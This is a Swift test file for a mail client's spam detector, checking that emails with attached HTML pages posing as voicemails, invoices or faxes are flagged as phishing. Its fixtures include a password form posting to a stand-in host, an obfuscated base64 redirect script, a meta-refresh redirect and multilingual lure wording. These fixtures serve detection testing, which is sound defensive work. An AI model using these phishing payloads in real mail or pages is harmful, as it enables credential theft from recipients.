import GMimeParser
import MailReading
import Testing

@testable import Mail

/// Phishing whose form for a password is an attached web page, and honest mails with such attachments.
@Suite struct AttachedTrapTests {
    private static let form = "<form action='http://bad.example/p'><input type=password></form>"

    private func mail(
        subject: String, text: String, file: String, page: String = AttachedTrapTests.form, type: String = "text/html",
        checks: String = "dkim=none; spf=none smtp.mailfrom=vm.example; dmarc=none header.from=vm.example",
        headers: String = ""
    ) -> MailMessage {
        GMimeMailParser().parse(
            Array(
                """
                Return-Path: <bounce@vm.example>
                Received: from out.vm.example (out.vm.example [192.0.2.15]) by mx.example.net (Postfix); Tue, 3 Mar 2026
                Authentication-Results: mx.example.net; \(checks)
                From: Office <office@vm.example>
                To: me@example.net
                Subject: \(subject)
                Date: Tue, 03 Mar 2026 09:15:00 +0000
                Message-ID: <1@vm.example>\(headers.isEmpty ? "" : "\n" + headers)
                MIME-Version: 1.0
                Content-Type: multipart/mixed; boundary="mix"

                --mix
                Content-Type: text/plain; charset=utf-8

                \(text)
                --mix
                Content-Type: \(type); name="\(file)"
                Content-Disposition: attachment; filename="\(file)"

                \(page)
                --mix--

                """.utf8)
        ).message
    }

    /// Returns a detector whose classifier always returns these log odds, by default those of honest mail.
    private func detector(_ logOdds: Double = -3) throws -> DetectSpamUseCase {
        let blank = try #require(LinearModel(bits: 10, biases: [0], weights: Array(repeating: 0, count: 1024)))
        let model: SpamModel = try #require(SpamModel(linear: blank, slope: 1, offset: logOdds))
        return DetectSpamUseCase(model: model)
    }

    @Test(arguments: [
        ("New voice message 00:42", "Open the attachment to listen.", "VM_0042.htm"),
        ("You missed a call", "To listen, open the attached file.", "VoiceMessage.html"),
        ("Salary adjustment March", "Dear colleague, see the attached file.", "Salary_adjustment.html"),
        ("Fax received: 3 pages", "See the attached document.", "fax-003.shtml"),
        ("Invoice 88213 overdue", "Please find it attached.", "Invoice_88213.xhtml"),
        ("Scan from MFP-3", "1 page, 300 dpi.", "scanned_document.svg"),
        ("Secure message", "Open the attachment and sign in to read it.", "message.html"),
        ("Neue Sprachnachricht", "Bitte öffnen Sie den Anhang.", "Nachricht.html"),
        ("Gehaltsabrechnung März", "Im Anhang.", "Abrechnung.htm"),
        ("Facture impayée", "Veuillez ouvrir la pièce jointe.", "facture.html"),
        ("Message vocal", "Vous avez un nouveau message.", "audio.htm"),
        ("Mensaje de voz", "Abra el archivo adjunto.", "voz.html"), ("Documento", "Ver adjunto.", "factura_77.html"),
        ("Document", "See attached.", "doc.html"), ("Voicemail", "0:42", "voice.pdf.HTML ."),
    ])
    func `a mail with an attached web form is spam, whatever its wording and the later stages`(
        subject: String, text: String, file: String
    ) throws {
        let verdict = try detector().verdict(mail(subject: subject, text: text, file: file))
        #expect(verdict.isSpam && verdict.reasons.contains { $0.rule == "attachedTrap" }, "\(verdict.score)")
        #expect(DetectSpamUseCase.verdict(verdict, with: -9, of: .embedding).isSpam)
    }

    @Test(arguments: [
        "<script>location.href = atob('aHR0cHM6Ly9iYWQuZXhhbXBsZQ==')</script>",
        "<META HTTP-EQUIV=\"Refresh\" content=\"0;url=https://bad.example\">", "<body onload='go()'>",
        "<svg xmlns='http://www.w3.org/2000/svg'><script>go()</script></svg>", "<p>Loading</p>",
    ])
    func `a mail with an attached page that runs code, redirects or is almost empty is spam`(page: String) throws {
        #expect(try detector().verdict(mail(subject: "Voicemail", text: "0:42", file: "a.html", page: page)).isSpam)
    }

    @Test func `an attached page in an authenticated mail, a reply, or without a luring phrase is not spam`() throws {
        let passed =
            "dkim=pass header.d=vm.example; spf=pass smtp.mailfrom=vm.example; dmarc=pass header.from=vm.example"
        let confirmed = mail(subject: "Secure message", text: "Open it.", file: "securedoc.html", checks: passed)
        #expect(try !detector().verdict(confirmed).isSpam)
        let answer = mail(
            subject: "Re: Invoice", text: "As you asked.", file: "a.html",
            headers: "In-Reply-To: <0@example.net>\nReferences: <0@example.net>")
        #expect(try !detector().verdict(answer).isSpam)
        let report = mail(
            subject: "Test report", text: "Coverage is 81 %.", file: "coverage.html", page: "<script>x</script>")
        #expect(try !detector().verdict(report).isSpam)
        let document = mail(subject: "Invoice", text: "Attached.", file: "a.pdf", page: "%PDF", type: "application/pdf")
        #expect(try !detector().verdict(document).isSpam)
    }
}
